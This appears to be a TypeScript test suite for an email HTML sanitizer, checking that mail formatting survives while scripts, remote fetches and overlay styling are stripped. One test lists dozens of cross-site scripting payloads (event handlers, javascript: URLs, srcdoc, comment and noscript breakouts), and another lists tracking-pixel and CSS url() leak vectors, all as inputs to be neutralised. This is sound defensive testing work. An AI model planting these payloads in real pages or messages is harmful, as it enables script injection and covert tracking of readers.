import assert from "node:assert/strict";
import { test } from "node:test";
import { htmlToText, safeHtml, textToHtml, withInlineImages } from "./index.ts";

const safe = (html: string): string => safeHtml(html).html;

test("Ordinary mail keeps its look", () => {
  const html =
    '<p style="color:#123456;margin:0">Hallo <b>Ann</b>,</p><ul><li>een</li></ul><table border="1" width="100%"><tr><td align="right">€ 5</td></tr></table>';
  assert.equal(safe(html), html);
  assert.equal(safeHtml(html).blockedRemote, 0);
});

test("No script in mail survives, in whatever way it is written", () => {
  for (const html of [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form action=https://x.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=https://x.example/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=https://ok.example onclick=alert(1) ping=https://x.example>x</a>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
  ]) {
    const result = safe(html);
    assert.doesNotMatch(
      result,
      /<(?:script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|template|textarea|details|body)|\son\w+=|javascript:|vbscript:|expression|srcdoc|ping=|data:text|svg\+xml/i,
      `${html} gave ${result}`,
    );
  }
});

test("Nothing in a mail makes the reader's browser fetch something", () => {
  const cases: [html: string, blocked: number][] = [
    ['<img src="https://x.example/pixel.gif" width="1" height="1" alt="logo">', 1],
    ['<img srcset="https://x.example/a 1x, https://x.example/b 2x">', 1],
    ["<img src=//x.example/p.gif>", 1],
    ["<table background=https://x.example/bg.png><tr><td>x</td></tr></table>", 1],
    ['<p style="background:url(https://x.example/?leak)">x</p>', 1],
    ['<p style="background-image: u\\72l(https://x.example)">x</p>', 0],
    ['<p style="list-style-image:url(//x.example/i)">x</p>', 1],
    ["<p style=\"color:red;background:image-set('https://x.example/a' 1x)\">x</p>", 1],
    ['<link rel=stylesheet href="https://x.example/s.css">', 1],
    ["<video poster=https://x.example/p.jpg src=https://x.example/v.mp4></video>", 2],
    ["<style>@import 'https://x.example/s.css'; input[value^=a]{background:url(https://x.example/a)}</style>", 0],
    ["<style>@font-face{font-family:x;src:url(https://x.example/f)}</style><p>x</p>", 0],
    ["<input type=image src=https://x.example/i.png>", 1],
    ["<body background=https://x.example/b.png>x", 1],
  ];
  for (const [html, blocked] of cases) {
    const result = safeHtml(html);
    assert.doesNotMatch(result.html, /x\.example|url\(|@import|u\\72l/, html);
    assert.equal(result.blockedRemote, blocked, html);
  }
});

test("What lies over the page or hides in it is taken out of the style", () => {
  assert.equal(
    safe('<div style="position:fixed;top:0;left:0;z-index:9;opacity:0;color:red">x</div>'),
    '<div style="color:red">x</div>',
  );
  assert.equal(safe('<p style="margin:-500px;width:50%">x</p>'), '<p style="width:50%">x</p>');
  assert.equal(
    safe('<p style="font-family:&quot;Arial&quot;,sans-serif">x</p>'),
    "<p style=\"font-family:'Arial',sans-serif\">x</p>",
  );
});

test("A link opens elsewhere and says nothing of where it was", () => {
  assert.equal(
    safe('<a href="https://bakker.example/?a=1&amp;b=2" target="_self" rel="opener">x</a>'),
    '<a href="https://bakker.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
  assert.equal(safe('<a href="/api/logout">x</a>'), "<a>x</a>");
  assert.equal(safe('<a href="//x.example/">x</a>'), "<a>x</a>");
});

test("Pictures of the mail itself are shown, others not", () => {
  const html = safe('<img src="cid:logo@x" alt="Logo"><img src="data:image/png;base64,iVBORw0KGgo=">');
  assert.match(html, /src="cid:logo@x"/);
  assert.match(html, /src="data:image\/png;base64,iVBORw0KGgo="/);
  assert.equal(
    withInlineImages('<img src="cid:logo@x" /><img src="cid:gone" />', (id) =>
      id === "logo@x" ? '/a?b=1&c="' : undefined,
    ),
    '<img src="/a?b=1&amp;c=&quot;" /><img />',
  );
  assert.doesNotMatch(safe(`<img src="data:image/png;base64,${"A".repeat(200_000)}">`), /data:/);
});

test("A title is not shown, but one that was never closed does not swallow the message", () => {
  assert.equal(safe("<title>Nieuws</title><p>x</p>"), "<p>x</p>");
  assert.equal(safe("<title>Nieuws<p>x</p>"), "<span>Nieuws<p>x</p></span>");
});

test("HTML without plain text can be read as text", () => {
  assert.equal(
    htmlToText(
      '<style>p{}</style><h1>Offerte</h1><p>Beste&nbsp;Ann,<br>zie <a href="https://x.example/a">hier</a>.</p><ul><li>een<li>twee</ul><script>x</script>',
    ),
    "Offerte\n\nBeste Ann,\nzie hier <https://x.example/a>.\n\n- een\n- twee",
  );
  assert.equal(htmlToText("a &lt;b&gt; &amp;amp; c"), "a <b> &amp; c");
  assert.equal(htmlToText('<a href="https://x.example/">x.example</a>'), "x.example");
});

test("Plain text becomes HTML that stays as it is", () => {
  const html = textToHtml('Prijs < 5 & "meer"\nzie https://x.example/a?b=1&c=2.\n<script>alert(1)</script>');
  assert.equal(
    html,
    '<div style="white-space:pre-wrap">Prijs &lt; 5 &amp; &quot;meer&quot;\nzie <a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">https://x.example/a?b=1&amp;c=2</a>.\n&lt;script&gt;alert(1)&lt;/script&gt;</div>',
  );
  assert.equal(htmlToText(safe(html)).includes("<script>alert(1)</script>"), true);
});

test("HTML of a million elements, or a text of dotted addresses, does not hold the others up", () => {
  const started = performance.now();
  const elements = "<p>tekst".repeat(500_000);
  assert.match(safe(elements), /tekst tekst/);
  assert.match(htmlToText(elements), /tekst tekst/);
  textToHtml(`https://${".".repeat(1990)}a `.repeat(1000));
  assert.ok(performance.now() - started < 4000);
});
